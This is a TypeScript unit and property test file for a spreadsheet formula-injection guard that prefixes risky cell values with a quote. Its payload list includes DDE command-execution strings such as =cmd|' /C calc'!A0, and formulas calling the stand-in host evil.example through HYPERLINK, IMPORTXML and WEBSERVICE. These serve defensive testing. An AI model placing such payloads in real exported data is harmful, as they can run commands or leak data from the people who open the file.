import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guard, unguard } from './formula-guard.ts';
import { sampleRows } from './testing/sample-list.ts';

const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","Klikk")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  "=2+5+cmd|' /C calc'!A0",
  '=(1)',
  '="a"&"b"',
  '=A1',
  '==1',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+4722249601',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '--1',
  '-A1',
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '\t=1+1',
  '\tOla',
  '\r=1+1',
  '\rOla',
  '\n=1+1',
  '\nOla',
  ' =1+1',
  '   +1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1',
  '﹢1',
  '﹣1',
  '﹫A1',
  '−1',
  "'=1+1",
  "''=1+1",
];

describe('guard', () => {
  it.each(payloads)('makes text of %j', (payload) => {
    expect(guard(payload)).toBe(`'${payload}`);
    expect(unguard(guard(payload))).toBe(payload);
  });

  it('changes no name, number or date', () => {
    const plain = sampleRows.flatMap((row) => [row.familyName, row.givenName, row.employer.name, row.cardNumber ?? '', row.bornOn ?? '']);
    for (const text of [
      ...plain,
      "O'Brien",
      "'t Hart",
      'Tor-Øyvind',
      'A+B Bygg AS',
      'post@firma.example',
      '01204773',
      '20.11.2026',
      '',
      "'",
      "''",
    ]) {
      expect(guard(text)).toBe(text);
      expect(unguard(text)).toBe(text);
    }
  });

  it('is undone exactly, and leaves nothing that begins as a formula (property)', () => {
    const tricky = fc.string({
      unit: fc.constantFrom("'", '=', '+', '-', '@', '＝', '\t', '\r', '\n', ' ', '\u200b', '\ufeff', 'a', '1'),
      maxLength: 8,
    });
    fc.assert(
      fc.property(fc.oneof(tricky, fc.string({ unit: 'binary' })), (text) => {
        const cell = guard(text);
        expect(unguard(cell)).toBe(text);
        expect(cell).not.toMatch(/^[\s\u200b\ufeff]*[=+\-@＝＋－＠]/u);
        expect(cell).not.toMatch(/^[\t\r\n]/);
      }),
      { numRuns: 5_000 },
    );
  });
});
